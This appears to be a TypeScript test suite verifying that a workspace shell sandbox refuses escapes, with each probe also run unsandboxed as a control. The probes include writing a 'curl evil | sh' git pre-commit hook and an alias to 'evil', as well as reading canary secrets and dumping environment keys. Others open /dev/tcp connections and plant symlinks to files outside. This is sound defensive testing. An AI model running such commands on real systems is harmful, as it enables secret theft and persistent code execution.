import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { createServer as createHttpServer } from "node:http";
import { createServer, type AddressInfo, type Server, type Socket } from "node:net";
import { mkdir, readdir, readFile, stat, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";
import type { Workspace } from "@cairn/core";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { execOptions, makeFixture, openWorkspace, type Fixture } from "../testing/fixture.ts";

let fixture: Fixture;
let workspace: Workspace;
const opened: Workspace[] = [];
const servers: Server[] = [];
const sockets: Socket[] = [];

beforeEach(async () => {
  fixture = await makeFixture();
  workspace = await openWorkspace(fixture);
  opened.push(workspace);
});

afterEach(async () => {
  await Promise.all(opened.splice(0).map((open) => open.dispose()));
  for (const socket of sockets.splice(0)) socket.destroy();
  await Promise.all(servers.splice(0).map((server) => new Promise((resolve) => server.close(resolve))));
  await fixture.cleanup();
});

/** The same fixture without the sandbox: the positive control that shows a probe works when nothing refuses it. */
async function openUnsandboxed(): Promise<Workspace> {
  const unsandboxed = await openWorkspace(fixture, { sandbox: { enabled: false } });
  opened.push(unsandboxed);
  return unsandboxed;
}

/** A probe's exit status, printed as `label=N`. */
function statusOf(stdout: string, label: string): number {
  const match = new RegExp(`${label}=(\\d+)`).exec(stdout);
  expect(match, `no ${label}= in ${JSON.stringify(stdout)}`).not.toBeNull();
  return Number(match?.[1]);
}

/** Refused means it ran and failed: 127 (command not found) is a broken probe, never a refusal. */
function expectRefused(stdout: string, label: string): void {
  const status = statusOf(stdout, label);
  expect(status, `${label} should fail`).not.toBe(0);
  expect(status, `${label}: the probe's program is missing`).not.toBe(127);
}

const listen = async (server: Server): Promise<number> => {
  servers.push(server);
  // A client may keep its end open after the server's reply; close() waits for every connection.
  server.on("connection", (socket) => sockets.push(socket));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return (server.address() as AddressInfo).port;
};

describe("the sandbox refuses", () => {
  it("writes outside the workspace, while writes inside land on the host", async () => {
    const marker = `cairn-pwned-${randomBytes(4).toString("hex")}`;
    const result = await workspace.exec(
      `echo pwned > ../${marker}; echo pwned > ${fixture.outside}/${marker}; echo pwned > /var/tmp/${marker}; echo ok > inside.txt`,
      execOptions(),
    );
    expect(result.stderr).toMatch(/Read-only file system/);
    await expect(stat(join(fixture.base, marker))).rejects.toThrow();
    await expect(stat(join(fixture.outside, marker))).rejects.toThrow();
    await expect(stat(join("/var/tmp", marker))).rejects.toThrow();
    expect(await readFile(join(fixture.root, "inside.txt"), "utf8")).toBe("ok\n");
    expect(await fixture.snapshotOutside()).not.toContain(marker);

    const control = `cairn-control-${randomBytes(4).toString("hex")}`;
    const unsandboxed = await (await openUnsandboxed()).exec(
      `echo ok > ../${control}; echo ok > ${fixture.outside}/${control}; echo "status=$?"`,
      execOptions(),
    );
    expect(statusOf(unsandboxed.stdout, "status")).toBe(0);
    expect(await readFile(join(fixture.base, control), "utf8")).toBe("ok\n");
    expect(await readFile(join(fixture.outside, control), "utf8")).toBe("ok\n");
  });

  it("reading outside: sibling directories, the server's home and Cairn's state", async () => {
    const cairnHome = join(fixture.base, "cairn-home");
    await mkdir(cairnHome);
    await writeFile(join(cairnHome, "settings.json"), `{"token":"${fixture.canary}"}`);
    const guarded = await openWorkspace(fixture, { cairnHome });
    opened.push(guarded);
    const result = await guarded.exec(
      `cat ../canary.txt ${fixture.canaryPath} ${fixture.outside}/secret.txt ${cairnHome}/settings.json; ls -A ${homedir()}`,
      execOptions(),
    );
    expect(result.stdout + result.stderr).not.toContain(fixture.canary);
    expect(result.stdout.trim()).toBe(""); // the home directory looks empty inside
    expect((await readdir(homedir())).length).toBeGreaterThan(0); // ...though it is not

    const unsandboxed = await (await openUnsandboxed()).exec(`cat ../canary.txt ${fixture.outside}/secret.txt`, execOptions());
    expect(unsandboxed.stdout).toContain(fixture.canary);
  });

  it("network access, direct or through the proxy, to a server on this machine", async () => {
    let connections = 0;
    const port = await listen(
      createServer((socket) => {
        connections += 1;
        socket.end("SERVER-REACHED\n");
      }),
    );
    const probe =
      `(exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3); echo "tcp=$?"; ` +
      `curl -fsS -m 5 --noproxy "" --http0.9 http://127.0.0.1:${port}/; echo "proxied=$?"; ` +
      `curl -fsS -m 5 --noproxy "*" --http0.9 http://127.0.0.1:${port}/; echo "direct=$?"`;
    const result = await workspace.exec(probe, execOptions({ timeoutMs: 30_000 }));
    expect(result.stdout).not.toContain("SERVER-REACHED");
    expectRefused(result.stdout, "tcp");
    expectRefused(result.stdout, "proxied");
    expectRefused(result.stdout, "direct");
    expect(connections).toBe(0);

    const unsandboxed = await (await openUnsandboxed()).exec(probe, execOptions({ timeoutMs: 30_000 }));
    expect(statusOf(unsandboxed.stdout, "tcp")).toBe(0);
    expect(statusOf(unsandboxed.stdout, "proxied")).toBe(0);
    expect(statusOf(unsandboxed.stdout, "direct")).toBe(0);
    expect(connections).toBe(3);
  });

  it("everything but the allowed domains: an allowed host is reachable through the proxy", async () => {
    const server = createHttpServer((_request, response) => response.end("PONG"));
    const port = await new Promise<number>((resolve) => {
      server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port));
    });
    try {
      const allowed = await openWorkspace(fixture, { sandbox: { enabled: true, allowedDomains: [`127.0.0.1:${port}`] } });
      opened.push(allowed);
      // The sandbox exempts 127.0.0.1 from the proxy (NO_PROXY); --noproxy "" sends it through the proxy anyway.
      const result = await allowed.exec(`curl -sS -m 10 --noproxy "" http://127.0.0.1:${port}/`, execOptions({ timeoutMs: 30_000 }));
      expect(result.stdout).toBe("PONG");
    } finally {
      server.close();
    }
  });

  it("the server's secrets: the shell gets a scrubbed environment plus the configured variables", async () => {
    const secret = `sk-ant-${randomBytes(8).toString("hex")}`;
    process.env.ANTHROPIC_API_KEY = secret;
    process.env.CAIRN_TOKEN = secret;
    process.env.SOME_SERVER_SETTING = secret;
    try {
      const configured = await openWorkspace(fixture, { env: { PROJECT_FLAG: "on" } });
      opened.push(configured);
      const result = await configured.exec("env; cat /proc/self/environ | tr '\\0' '\\n'", execOptions());
      expect(result.stdout).not.toContain(secret);
      expect(result.stdout).not.toMatch(/ANTHROPIC_API_KEY|CAIRN_TOKEN|SOME_SERVER_SETTING/);
      expect(result.stdout).toContain("PROJECT_FLAG=on");
      expect(result.stdout).toMatch(/^PATH=/m);
    } finally {
      delete process.env.ANTHROPIC_API_KEY;
      delete process.env.CAIRN_TOKEN;
      delete process.env.SOME_SERVER_SETTING;
    }
  });

  it("changes to files that would run code outside the sandbox later: git hooks and config, MCP and agent settings", async () => {
    execFileSync("git", ["init", "-q"], { cwd: fixture.root });
    // Absent shell files are not refused in a workspace (only where it is a home directory): these exist.
    await writeFile(join(fixture.root, ".mcp.json"), "{}\n");
    await writeFile(join(fixture.root, ".bashrc"), "# mine\n");
    const hooked = await openWorkspace(fixture);
    opened.push(hooked);
    const configBefore = await readFile(join(fixture.root, ".git", "config"), "utf8");
    const probe =
      "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; " +
      "mkdir -p .claude; echo '{\"hooks\":{}}' > .claude/settings.json; echo '{}' > .mcp.json; echo 'alias ls=evil' > .bashrc";
    const result = await hooked.exec(probe, execOptions());
    expect(result.stderr).toMatch(/Read-only file system|Permission denied/);
    await expect(stat(join(fixture.root, ".git", "hooks", "pre-commit"))).rejects.toThrow();
    expect(await readFile(join(fixture.root, ".git", "config"), "utf8")).toBe(configBefore);
    expect(await readFile(join(fixture.root, ".mcp.json"), "utf8")).toBe("{}\n");
    expect(await readFile(join(fixture.root, ".bashrc"), "utf8")).toBe("# mine\n");
    await hooked.dispose();
    // Once no shell runs, nothing the sandbox put in place is left behind, and nothing was written.
    expect((await readdir(fixture.root)).sort()).toEqual([".bashrc", ".git", ".mcp.json"]);

    const unsandboxed = await (await openUnsandboxed()).exec(`${probe}; echo "status=$?"`, execOptions());
    expect(statusOf(unsandboxed.stdout, "status")).toBe(0);
    expect(await readFile(join(fixture.root, ".git", "hooks", "pre-commit"), "utf8")).toBe("curl evil | sh\n");
    expect(await readFile(join(fixture.root, ".bashrc"), "utf8")).toBe("alias ls=evil\n");
  });

  it("changes to the directory where the host puts command files, which would let the shell redirect host writes", async () => {
    const result = await workspace.exec(
      'run=$(dirname "$BASH_SOURCE"); echo "$run"; touch "$run/planted"; echo "touch=$?"; mv "$run" "$run.moved"; echo "mv=$?"; ln -s /etc "$run/link"; echo "ln=$?"',
      execOptions(),
    );
    expect(result.stdout).toMatch(/cairn-ws-[^/]+\/run\n/);
    expectRefused(result.stdout, "touch");
    expectRefused(result.stdout, "mv");
    expectRefused(result.stdout, "ln");
    expect((await workspace.exec("echo still working", execOptions())).stdout).toBe("still working\n");

    const unsandboxed = await (await openUnsandboxed()).exec('touch "$(dirname "$BASH_SOURCE")/planted"; echo "touch=$?"', execOptions());
    expect(statusOf(unsandboxed.stdout, "touch")).toBe(0);
  });

  it("links the shell plants to reach outside, in the shell and in file operations", async () => {
    const result = await workspace.exec(
      `ln -s ${fixture.canaryPath} planted; ln -s ${fixture.outside} planted-dir; cat planted planted-dir/secret.txt`,
      execOptions(),
    );
    expect(result.stdout + result.stderr).not.toContain(fixture.canary);
    await expect(workspace.readFile("planted")).rejects.toMatchObject({ code: "outside_workspace" });
    await expect(workspace.writeFile("planted-dir/new.txt", "x")).rejects.toMatchObject({ code: "outside_workspace" });
    expect(await fixture.snapshotOutside()).not.toContain("new.txt");

    const unsandboxed = await (await openUnsandboxed()).exec("cat planted planted-dir/secret.txt", execOptions());
    expect(unsandboxed.stdout).toContain(fixture.canary);
  });
});
